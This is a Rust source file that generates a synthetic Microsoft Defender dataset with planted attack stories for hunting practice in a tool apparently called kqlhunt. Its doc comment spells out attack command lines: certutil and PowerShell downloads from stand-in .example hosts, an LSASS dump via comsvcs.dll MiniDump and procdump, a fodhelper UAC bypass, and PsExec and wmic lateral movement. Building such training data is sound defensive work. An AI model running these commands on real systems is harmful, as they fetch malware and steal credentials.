//! The built-in demo dataset: a deterministic, realistic month of Microsoft Defender advanced
//! hunting data for a small fictional organisation, with attacks planted in it, so the first
//! run of kqlhunt without a tenant is a real hunt.
//!
//! `generate(now)` returns every table of the bundled schema (`data::schema`), with exactly its
//! columns and kinds; tables the demo does not model are present and empty. All timestamps
//! fall in `[now - 30d, now]`; the same `now` always gives the same data.
//!
//! # The organisation
//!
//! Contoso (`contoso.local`, UPNs `@contoso.com`, egress `192.0.2.15`): 30 people on
//! `wks-001`…`wks-030.contoso.local` (10.0.1.11–40; the owner of `wks-0NN` is person NN), ten
//! hot desks `wks-031`…`wks-040`, and `dc01` (10.0.0.10), `srv-file01` (.20), `srv-app01`
//! (.21), `srv-sql01` (.22) and the internet-facing `srv-jump01` (.30, published as
//! 192.0.2.30). Weekday office hours are about 07:30–16:00 UTC. Admin accounts
//! `adm-tkowalski` (helpdesk, works on wks-030) and `adm-draman` (wks-029) RDP to servers on
//! many weekdays; Intune runs PowerShell on workstations daily (encoded on Mondays); scanners
//! fail a few logons a day on srv-jump01. Those are the look-alikes a good hunt must rule out.
//!
//! # Planted stories
//!
//! Times are UTC on the calendar day `D-n` = n days before the day `now` falls in. Attacker
//! infrastructure uses documentation addresses and `.example` names; constants for the key
//! values are in [`stories`].
//!
//! 0. **Precursor** (D-8 10:05): `adm-tkowalski` RDPs from wks-030 into
//!    `wks-017.contoso.local` (RemoteInteractive logon), leaving admin credentials in its LSASS.
//! 1. **(a) Phishing** (D-6 09:02): `billing@contoso-billing.example` sends "Overdue invoice
//!    INV-20931 - action required" to jhale, abrooks, cdunn and dellis (EmailEvents, delivered;
//!    EmailUrlInfo `https://contoso-billing.example/invoices/INV-20931`). At 09:16 **jhale**
//!    clicks (UrlClickEvents, ClickAllowed); on **wks-017** OUTLOOK.EXE launches msedge.exe
//!    (DeviceEvents BrowserLaunchedToOpenUrl), which downloads `INV-20931.docm` (DeviceFileEvents,
//!    FileOriginIP 198.51.100.23) and starts WINWORD.EXE on it (loads VBE7.DLL).
//! 2. **(b) Encoded PowerShell** (D-6 ~09:17): WINWORD.EXE spawns
//!    `powershell.exe -nop -w hidden -enc …` (a UTF-16LE WebClient/IEX download cradle for
//!    `http://cdn.contoso-billing.example/s/i.ps1`), PowerShellCommand events, a connection to
//!    198.51.100.23:80.
//! 3. **(c) LOLBin downloads** (D-6 ~09:19–09:23): `cmd.exe /c certutil.exe -urlcache -split -f
//!    http://cdn.contoso-billing.example/dl/payload.exe C:\Users\Public\Libraries\updsvc.exe`
//!    (network + FileCreated with FileOriginUrl), then `bitsadmin /transfer` of `tools.zip` (the
//!    BITS svchost connects and writes it), PsExec64.exe and procdump64.exe unpacked, the
//!    implant `updsvc.exe` started by PowerShell and persisted under HKCU `…\Run` value
//!    `UpdateService` (DeviceRegistryEvents).
//! 4. **(g) Beaconing** (D-6 ~09:24 until `now`): `updsvc.exe` on wks-017 connects to
//!    `203.0.113.77:443` (`sync.updsvc-cdn.example`) every 5 minutes ± 20 s, ~1,700 rows.
//! 5. **(d) Credential dumping** (D-5 13:30–13:40): the implant's cmd.exe runs `whoami /all`,
//!    `net group "domain admins" /domain`, `nltest /dclist:`; a fodhelper UAC bypass (HKCU
//!    `ms-settings\Shell\Open\command`) gives an elevated cmd.exe, which runs `rundll32.exe
//!    C:\Windows\System32\comsvcs.dll, MiniDump <lsass pid> C:\Users\Public\Libraries\d.dmp
//!    full` (DeviceEvents OpenProcessApiCall and AsrLsassCredentialTheftAudited on lsass.exe,
//!    comsvcs.dll image load, d.dmp created).
//! 6. **(e) Lateral movement** (D-5 14:05 and 14:30), with the stolen **adm-tkowalski** over
//!    NTLM from wks-017 (10.0.1.27): `PsExec64.exe \\srv-file01 -u contoso\adm-tkowalski -s -c
//!    procdump64.exe -ma lsass.exe …` → on **srv-file01** a Network logon, PSEXESVC.exe and
//!    procdump64.exe written over SMB to `ADMIN$`, ServiceInstalled, services.exe →
//!    PSEXESVC.exe → procdump64.exe dumping LSASS (`C:\Windows\Temp\fs01.dmp`); then `wmic
//!    /node:srv-app01 … process call create "cmd.exe /c whoami /groups > …"` → on
//!    **srv-app01** a Network logon and WmiPrvSE.exe → cmd.exe as adm-tkowalski.
//!    IdentityLogonEvents show both NTLM logons from wks-017.
//! 7. **(f) Brute force** (D-2 01:50–02:02): 42 LogonFailed (Network, NTLM) on
//!    **srv-jump01.contoso.local** from `203.0.113.45` against administrator, admin,
//!    svc-backup, test … then LogonSuccess for **svc-backup** (Network, then RemoteInteractive)
//!    and discovery (`net user /domain`, `nltest /domain_trusts`, `quser`).
//!
//! Each story has AlertInfo/AlertEvidence rows (12 story alerts), plus two low-severity
//! potentially-unwanted-application alerts on wks-009 (D-19) and wks-023 (D-11).

mod benign;
mod org;
mod rng;
pub mod stories;
mod tables;
mod world;

use std::collections::BTreeMap;

use crate::data::Table;

/// The seed of the demo's random stream: changing it changes every generated value.
const SEED: u64 = 0x6b71_6c68_756e_7431;

/// The demo tables by name.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Catalog {
    tables: BTreeMap<String, Table>,
}

impl Catalog {
    /// A table by exact name.
    pub fn get(&self, name: &str) -> Option<&Table> {
        self.tables.get(name)
    }

    /// A table by name ignoring ASCII case.
    pub fn get_ci(&self, name: &str) -> Option<(&str, &Table)> {
        self.tables
            .get_key_value(name)
            .or_else(|| {
                self.tables
                    .iter()
                    .find(|(n, _)| n.eq_ignore_ascii_case(name))
            })
            .map(|(n, t)| (n.as_str(), t))
    }

    /// Every table, by name.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &Table)> + '_ {
        self.tables.iter().map(|(n, t)| (n.as_str(), t))
    }

    pub fn table_names(&self) -> impl Iterator<Item = &str> + '_ {
        self.tables.keys().map(String::as_str)
    }

    /// Rows across all tables.
    pub fn total_rows(&self) -> usize {
        self.tables.values().map(Table::row_count).sum()
    }

    pub fn into_tables(self) -> BTreeMap<String, Table> {
        self.tables
    }
}

/// Generate the demo dataset for the 30 days before `now_ticks` (100 ns ticks since the Unix
/// epoch, as `data::time`). Deterministic: the same `now` gives identical tables.
pub fn generate(now_ticks: i64) -> Catalog {
    let mut w = world::World::new(now_ticks, SEED);
    benign::generate(&mut w);
    stories::plant(&mut w);
    w.finish();
    Catalog {
        tables: tables::catalog(&w),
    }
}
